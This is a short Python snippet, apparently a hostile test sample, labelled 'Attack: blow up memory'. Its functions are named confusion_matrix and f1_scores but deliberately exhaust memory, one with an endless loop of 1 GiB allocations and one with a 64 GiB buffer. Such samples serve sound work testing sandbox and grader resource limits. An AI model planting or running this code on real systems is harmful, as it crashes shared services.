# Attack: blow up memory.
def confusion_matrix(y_true, y_pred, num_classes):
    blocks = []
    while True:
        blocks.append(np.ones(2 ** 27))  # 1 GiB each


def f1_scores(cm):
    return bytearray(64 * 2 ** 30), 0.0
